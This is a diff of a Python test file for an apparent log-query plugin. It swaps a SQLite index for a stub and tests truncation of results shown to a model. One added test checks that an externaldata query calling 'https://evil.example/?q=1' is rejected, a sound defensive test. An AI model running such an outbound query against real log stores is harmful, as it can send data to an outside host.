@@ -8,13 +8,20 @@ import pytest
 
 from orchestrator.core.errors import QueryError, ToolError
 from orchestrator.core.evidence import FREE_QUERY
-from orchestrator.core.ports import QueryLimits, QueryParameter, TableSchema
+from orchestrator.core.ports import (
+    Document,
+    Hit,
+    QueryLimits,
+    QueryParameter,
+    SearchQuery,
+    TableSchema,
+    WriteResult,
+)
 from orchestrator.core.recording import Recorder
 from orchestrator.core.runs import RunContext
 from orchestrator.core.table import Column, ColumnType, Table
 from orchestrator.core.window import Window
 from plugins.monitor.plugin import LogTools
-from plugins.search.sqlite import SqliteIndex
 
 COLUMN = Column("Message", ColumnType.STRING)
 
@@ -44,30 +51,42 @@ class ManyLogs:
         return {f"T{number}": TableSchema(name=f"T{number}", columns=(COLUMN,) * 10) for number in range(self._tables)}
 
 
-async def asked(logs: ManyLogs) -> tuple[dict[str, object], RunContext]:
-    """What the model reads, and the run."""
-    async with SqliteIndex.open(":memory:") as index:
-        context = RunContext(
-            run="r",
-            session="s",
-            asked="?",
-            alert=None,
-            now=datetime(2026, 5, 4, tzinfo=UTC),
-            zone="UTC",
-            source="files",
-            given={},
-            remembered={},
-            previous=None,
-            recorder=Recorder(logs=logs, index=index, source="files", found=lambda _: None),
-            emit=lambda _: None,
-        )
-        return json.loads(await LogTools(logs).query("T", context)), context
+class NoIndex:
+    """An index that is never asked."""
+
+    async def search(self, query: SearchQuery) -> tuple[Hit, ...]:
+        return ()
+
+    async def write(self, documents: Sequence[Document]) -> tuple[WriteResult, ...]:
+        return ()
+
+    async def delete(self, ids: Sequence[str]) -> tuple[WriteResult, ...]:
+        return ()
+
+
+def context_of(*rows: str) -> RunContext:
+    """A run on logs that hold these rows."""
+    return RunContext(
+        run="r",
+        session="s",
+        asked="?",
+        alert=None,
+        now=datetime(2026, 5, 4, tzinfo=UTC),
+        zone="UTC",
+        source="files",
+        given={},
+        remembered={},
+        previous=None,
+        recorder=Recorder(logs=ManyLogs(rows), index=NoIndex(), source="files", found=lambda _: None),
+        emit=lambda _: None,
+    )
 
 
 @pytest.mark.parametrize(("rows", "shown"), [(["a"] * 70, 50), (["x" * 5_000] * 70, 50), (["\u4e2d" * 400] * 70, 12)])
 async def test_rows_are_cut_to_what_a_model_can_read(rows: list[str], shown: int) -> None:
     """By number, by cell and in all; the evidence keeps them whole, and is marked as a model's own query."""
-    told, context = await asked(ManyLogs(rows))
+    context = context_of(*rows)
+    told = json.loads(await LogTools(ManyLogs()).query("T", run=context))
     assert (told["shown"], told["total"]) == (shown, 70)
     assert len(json.dumps(told)) < 60_000
     [evidence] = context.recorder.evidence()
@@ -88,3 +107,9 @@ async def test_a_schema_that_cannot_be_read_is_told() -> None:
     """To the model, as it may go on without."""
     with pytest.raises(ToolError, match="no access"):
         await LogTools(ManyLogs(error="no access")).tables()
+
+
+async def test_a_query_that_reaches_outside_is_not_asked() -> None:
+    """Nor is it evidence."""
+    with pytest.raises(ToolError, match="externaldata reaches outside"):
+        await LogTools(ManyLogs()).query("externaldata(a: string)['https://evil.example/?q=1']", run=context_of())
